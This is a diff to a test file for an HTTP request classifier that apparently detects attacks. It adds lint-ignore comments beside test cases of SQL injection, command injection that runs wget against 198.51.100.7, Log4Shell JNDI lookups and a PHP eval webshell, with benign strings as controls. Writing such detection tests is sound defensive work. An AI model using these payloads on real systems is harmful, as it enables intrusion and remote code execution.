@@ -81,6 +81,7 @@ describe("files over HTTP", () => {
       ["id=1%20UnIoN%20SELECT%20user()", "sql"],
       ["ip=127.0.0.1%3Bwget+http://198.51.100.7/a", "command"],
       ["<NewStatusURL>$(/bin/busybox wget -g 198.51.100.7)</NewStatusURL>", "command"],
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: it stands so in the file
       ['{"name": "${jndi:ldap://198.51.100.7/a}"}', "log4j"],
       ["a=%24%7B%24%7Blower:j%7Dndi:x%7D", "log4j"],
       ["pass=%40eval(base64_decode(%24_POST%5Bz0%5D))", "webshell"],
@@ -94,6 +95,7 @@ describe("files over HTTP", () => {
       ["text=The+union+selected+a+speaker%3B+wgets+of+100%25+%24%7Bname%7D&n=2%2B2", null],
       ["<?php echo 'hello'; ?>", null],
       ["<!DOCTYPE a [<!ENTITY b 'c'>]><a/>", null],
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: it stands so in the file
       ["function f() { return `${a}`; } a | b; c && d", null],
       ["%", null],
       ["%2", null]
